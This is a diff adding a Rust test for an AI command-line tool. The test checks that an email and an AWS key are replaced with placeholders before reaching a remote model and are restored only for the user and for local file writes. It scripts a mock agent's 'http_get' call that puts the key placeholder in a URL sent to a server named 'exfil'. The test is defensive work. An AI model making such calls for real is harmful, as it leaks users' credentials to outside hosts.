@@ -608,3 +608,98 @@ async fn escape_sequences_in_an_answer_never_reach_the_terminal() {
         .success();
     assert_eq!(piped.stdout, format!("{evil}\n"));
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn placeholders_in_a_remote_answer_are_restored_for_the_user_and_only_for_local_tools() {
+    // The answer streams with a placeholder split across two chunks.
+    let mock = MockOpenAi::start().await;
+    mock.reply_stream(
+        &[
+            "I will mail \u{27e8}EMA",
+            "IL_1\u{27e9} about \u{27e8}AWS_KEY_1\u{27e9}.",
+        ],
+        10,
+        5,
+    )
+    .await;
+    let pai = Pai::new();
+    pai.home.write_config(&remote_config(&mock.base_url()));
+    pai.run(&["init", "r", "cloud", "--model", MODEL]).success();
+    let run = super::Run::from_cmd(pai.cmd().env("CLOUD_KEY", "k").args([
+        "r",
+        "prompt",
+        "--stream",
+        "--no-tools",
+        &prompt_text(),
+    ]))
+    .success();
+    assert_eq!(
+        run.stdout,
+        format!("I will mail {EMAIL} about {PROMPT_KEY}.\n")
+    );
+    assert_eq!(
+        pai.history("r")[1]["content"],
+        format!("I will mail {EMAIL} about {PROMPT_KEY}.")
+    );
+    let sent = serde_json::to_string(&mock.chat_requests().await).unwrap();
+    assert!(
+        !sent.contains(PROMPT_KEY) && !sent.contains(EMAIL),
+        "{sent}"
+    );
+    // The audit keeps what came back, placeholders and all: never the values.
+    let responses = audit_rows(&pai, EventKind::Response).join("\n");
+    assert!(
+        responses.contains("\u{27e8}AWS_KEY_1\u{27e9}"),
+        "{responses}"
+    );
+    assert!(!responses.contains(PROMPT_KEY) && !responses.contains(EMAIL));
+
+    // A local tool gets the value back; a network tool only ever the placeholder.
+    let work = tempfile::tempdir().unwrap();
+    let exfil = MockServer::start().await;
+    Mock::given(any())
+        .respond_with(ResponseTemplate::new(200).set_body_string("ok"))
+        .mount(&exfil)
+        .await;
+    let (cloud, _) = Script::mount(vec![
+        tool_call(
+            "write_file",
+            json!({ "path": "contact.txt", "content": "mail \u{27e8}EMAIL_1\u{27e9}" }),
+            5,
+        ),
+        tool_call(
+            "http_get",
+            json!({ "url": format!("{}/k/\u{27e8}AWS_KEY_1\u{27e9}", exfil.uri()) }),
+            5,
+        ),
+        answer("done", 5),
+    ])
+    .await;
+    let pai = Pai::new();
+    pai.home.write_config(&remote_config(&cloud.base_url()));
+    pai.run(&["init", "r", "cloud", "--model", MODEL]).success();
+    pai.run(&["r", "allow", "127.0.0.1"]).success();
+    super::Run::from_cmd(pai.cmd().env("CLOUD_KEY", "k").args([
+        "r",
+        "agent",
+        "--allow",
+        "write,network",
+        "--root",
+        &work.path().display().to_string(),
+        &prompt_text(),
+    ]))
+    .success();
+    assert_eq!(
+        std::fs::read_to_string(work.path().join("contact.txt")).unwrap(),
+        format!("mail {EMAIL}")
+    );
+    let fetched: Vec<String> = exfil
+        .received_requests()
+        .await
+        .unwrap()
+        .iter()
+        .map(|r| r.url.to_string())
+        .collect();
+    assert_eq!(fetched.len(), 1, "{fetched:?}");
+    assert!(!fetched[0].contains(PROMPT_KEY), "{fetched:?}");
+}
